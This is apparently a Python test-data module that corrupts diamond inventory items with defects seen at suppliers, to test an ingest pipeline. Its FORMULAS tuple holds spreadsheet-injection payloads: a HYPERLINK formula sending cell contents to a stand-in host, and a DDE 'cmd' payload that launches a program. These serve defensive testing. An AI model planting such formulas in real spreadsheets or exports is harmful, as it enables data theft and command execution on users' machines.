"""The dirt of real payloads, one function per kind: each spoils a rendered item in a way that was seen at suppliers.

Every stone carries a bit per kind, drawn when the inventory is made; `ingest.sandbox.rendering` applies those set. Dirt
never touches the fields that identify or price a stone. Kinds that only make sense for some stones (fancy colours,
lab-grown) leave the others clean.
"""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

import numpy as np
from numpy.typing import NDArray

from ingest.sandbox import chance

Item = dict[str, Any]
#: A function that spoils a clean item; the number holds random bits to choose by.
Spoil = Callable[[Item, int], None]


@dataclass(frozen=True, slots=True)
class Kind:
    """One kind of dirt: its name, the share of stones that carry it, and the function that spoils their items."""

    name: str
    share: float
    spoil: Spoil


KINDS: list[Kind] = []


def _kind(share: float) -> Callable[[Spoil], Spoil]:
    def keep(spoil: Spoil) -> Spoil:
        KINDS.append(Kind(spoil.__name__, share, spoil))
        return spoil

    return keep


def draw(seed: int, stones: NDArray[np.int64]) -> NDArray[np.uint64]:
    """The bits of the kinds (by their place in `KINDS`) that each stone number carries."""
    carried = np.zeros(len(stones), dtype=np.uint64)
    for place, kind in enumerate(KINDS):
        hit = chance.uniform(seed, f"dirt {kind.name}", stones) < kind.share
        carried |= hit.astype(np.uint64) << np.uint64(place)
    return carried


def spoil(item: Item, carried: int, noise: int) -> None:
    """Apply all kinds whose bits are set."""
    place = 0
    while carried:
        if carried & 1:
            KINDS[place].spoil(item, noise >> (place & 31))
        carried >>= 1
        place += 1


def bit(name: str) -> int:
    """The bit of a kind."""
    return 1 << next(place for place, kind in enumerate(KINDS) if kind.name == name)


# Spellings and texts come first, blanks after them: a missing certificate overrides all others.

EXCELLENT = ("Excellent", "EXCELLENT", "Ideal", "ID", "3EX", "EX")
VERY_GOOD = ("Very Good", "VERY_GOOD", "VG")
GOOD = ("G", "Good", "GD")
_GRADES = {"ID": EXCELLENT, "EX": EXCELLENT, "VG": VERY_GOOD, "GD": GOOD}
FLUORESCENCES = {
    "NON": ("NONE", "None", "NON"),
    "FNT": ("Faint", "FNT"),
    "MED": ("Medium", "MED"),
    "STG": ("Strong", "STG"),
    "VST": ("Very Strong", "VST"),
}
YES_TEXTS, NO_TEXTS = ("true", "Yes", "1", "100%"), ("false", "No", "0", "N/A")


@_kind(0.12)
def grade_spelling(item: Item, noise: int) -> None:
    """Grades in every spelling."""
    certificate = item["diamond"]["certificate"]
    for name in ("cut", "polish", "symmetry"):
        spellings = _GRADES.get(certificate[name])
        if spellings:
            certificate[name] = spellings[noise % len(spellings)]
            noise >>= 3


@_kind(0.2)
def fluorescence_spelling(item: Item, noise: int) -> None:
    """Fluorescence in words."""
    certificate = item["diamond"]["certificate"]
    spellings = FLUORESCENCES[certificate["floInt"]]
    certificate["floInt"] = spellings[noise % len(spellings)]


@_kind(0.02)
def fluorescence_in_one(item: Item, noise: int) -> None:
    """No fluorescence, but a colour of it."""
    certificate = item["diamond"]["certificate"]
    certificate["floCol"] = ("BLUE", "Yellow", "None", "")[noise % 4]


@_kind(0.05)
def boolean_as_text(item: Item, noise: int) -> None:
    """Booleans as words."""
    diamond = item["diamond"]
    name = ("eyeClean", "show_measurements", "show_certificate_number", "verified", "treated")[noise % 5]
    holder = diamond["certificate"] if name in ("verified", "treated") else diamond
    texts = YES_TEXTS if holder[name] else NO_TEXTS
    holder[name] = texts[(noise >> 5) % len(texts)]


@_kind(0.02)
def labgrown_as_text(item: Item, noise: int) -> None:
    """The one boolean that decides about the feed, as a word (only where it says yes)."""
    certificate = item["diamond"]["certificate"]
    if certificate["labgrown"]:
        certificate["labgrown"] = ("true", "Yes", "1")[noise % 3]


@_kind(0.04)
def labgrown_by_type_only(item: Item, noise: int) -> None:
    """`labgrown` null with `labgrown_type` set: the stone is lab-grown."""
    certificate = item["diamond"]["certificate"]
    if certificate["labgrown"]:
        certificate["labgrown"] = None
        certificate["labgrown_type"] = ("CVD", "HPHT")[noise % 2]


@_kind(0.03)
def number_with_comma(item: Item, noise: int) -> None:
    """Measurements with a decimal comma, money with commas between the thousands."""
    certificate = item["diamond"]["certificate"]
    name = ("length", "width", "depth", "depthPercentage", "table", "crownAngle")[noise % 6]
    if certificate[name] is not None:
        certificate[name] = str(certificate[name]).replace(".", ",")
    item["diamond_price"] = f"{item['diamond_price']:,}"


@_kind(0.03)
def number_with_spaces(item: Item, noise: int) -> None:
    """Numbers as texts with spaces around them or between the thousands."""
    certificate = item["diamond"]["certificate"]
    name = ("carats", "length", "width", "depth", "table", "pavAngle")[noise % 6]
    if certificate[name] is not None:
        certificate[name] = f" {certificate[name]} "
    item["markup_price"] = f"{item['markup_price']:,}".replace(",", " ")


@_kind(0.25)
def fancy_without_its_color(item: Item, noise: int) -> None:
    """A fancy stone whose `color` is not "Fancy"."""
    certificate = item["diamond"]["certificate"]
    if certificate["f_color"]:
        certificate["color"] = (None, "", "K", "N", "Z", certificate["f_intensity"])[noise % 6]


@_kind(0.08)
def fancy_without_f_color(item: Item, noise: int) -> None:
    """A fancy stone that does not say which colour."""
    certificate = item["diamond"]["certificate"]
    if certificate["f_color"] and certificate["color"] == "Fancy":
        certificate["f_color"] = None if noise % 2 else ""


@_kind(0.4)
def intensity_spelling(item: Item, noise: int) -> None:
    """Intensity with underscores, with dashes, in title case."""
    certificate = item["diamond"]["certificate"]
    if certificate["f_intensity"]:
        words = str(certificate["f_intensity"]).split()
        spellings = ("_".join(words), "-".join(words).title(), " ".join(words).title(), f" {'  '.join(words)} ")
        certificate["f_intensity"] = spellings[noise % 4]


@_kind(0.01)
def fancy_noise(item: Item, noise: int) -> None:
    """Words in the fancy fields that name no fancy colour."""
    certificate = item["diamond"]["certificate"]
    if certificate["f_color"]:
        certificate["f_overtone"] = "EVEN"
    else:
        certificate["f_color"] = ("EVEN", "U-V", "None", "")[noise % 4]


UNICODE = ("Diamant – très brillant, 钻石 💎", "יהלום מצוין", "ماس نادر", "Z̵̢a̷l̶g̸o", "ﬂawless​stone‮", "\ufeffДобрый")


@_kind(0.02)
def unicode_text(item: Item, noise: int) -> None:
    """Text with any Unicode."""
    item["diamond"]["certificate"]["comments"] = UNICODE[noise % len(UNICODE)]


@_kind(0.01)
def nul_in_text(item: Item, noise: int) -> None:
    """NUL characters, which no PostgreSQL text takes."""
    certificate = item["diamond"]["certificate"]
    if noise % 3:
        certificate["comments"] = "Clouds\x00 are not shown.\x00"
    else:
        certificate["keyToSymbols"] = "Feather\x00Crystal"


@_kind(0.005)
def long_comment(item: Item, noise: int) -> None:
    """A comment of ten kilobytes."""
    sentence = f"Remark {noise % 1000}: additional pinpoints, clouds and surface graining are not shown. "
    item["diamond"]["certificate"]["comments"] = (sentence * (10_240 // len(sentence) + 1))[:10_240]


FORMULAS = (
    '=HYPERLINK("https://example.invalid/?x="&A1,"details")',
    "+1+1",
    "@SUM(A1:A9)",
    '-2+3+cmd|" /C calc"!A0',
)


@_kind(0.01)
def formula_in_comment(item: Item, noise: int) -> None:
    """Formulas that a spreadsheet would run."""
    item["diamond"]["certificate"]["comments"] = FORMULAS[noise % 4 if noise & 32 else 0]


@_kind(0.03)
def no_image(item: Item, noise: int) -> None:
    """Image null or empty."""
    item["diamond"]["image"] = item["diamond"]["certificate"]["image"] = None if noise % 2 else ""


@_kind(0.03)
def no_video(item: Item, noise: int) -> None:
    """Video null or empty."""
    item["diamond"]["video"] = item["diamond"]["certificate"]["video"] = None if noise % 2 else ""


def _blank(name: str) -> Spoil:
    def blank(item: Item, noise: int) -> None:
        item["diamond"]["certificate"][name] = None if noise % 2 else ""

    blank.__name__ = f"no_{name}"
    return blank


for _name in ("cut", "clarity", "color", "polish", "symmetry", "floInt", "shape", "certNumber", "lab"):
    _kind(0.012 if _name not in ("shape", "lab") else 0.004)(_blank(_name))


@_kind(0.02)
def no_measurements(item: Item, noise: int) -> None:
    """Length, width and depth null or empty; sometimes 0."""
    certificate = item["diamond"]["certificate"]
    for name in ("length", "width", "depth"):
        certificate[name] = (None, "", 0)[noise % 3]


@_kind(0.02)
def no_angles(item: Item, noise: int) -> None:
    """No angles, no table, no girdle."""
    certificate = item["diamond"]["certificate"]
    for name in ("crownAngle", "crownHeight", "pavAngle", "pavHeight", "pavDepth", "table", "girdle", "culetSize"):
        certificate[name] = None if noise % 2 else ""


@_kind(0.01)
def no_delivery_time(item: Item, noise: int) -> None:
    """No delivery time; sometimes no supplier either."""
    item["diamond"]["delivery_time"] = None
    if noise % 4 == 0:
        item["diamond"]["supplier"] = None


@_kind(0.0008)
def zero_carats(item: Item, noise: int) -> None:
    """Carats 0."""
    item["diamond"]["certificate"]["carats"] = (0, "0", 0.0)[noise % 3]


@_kind(0.0008)
def empty_certificate(item: Item, noise: int) -> None:
    """A certificate in which every field is null."""
    item["diamond"]["certificate"] = dict.fromkeys(item["diamond"]["certificate"])


@_kind(0.0008)
def no_certificate(item: Item, noise: int) -> None:
    """No certificate at all."""
    item["diamond"]["certificate"] = None


#: Stones of unknown weight: they cost 0 dollars per carat in the supplier's queries.
WEIGHTLESS = bit("zero_carats") | bit("empty_certificate") | bit("no_certificate")
#: Stones without a readable certificate: no query by shape or grade finds them.
UNCERTIFIED = bit("empty_certificate") | bit("no_certificate")
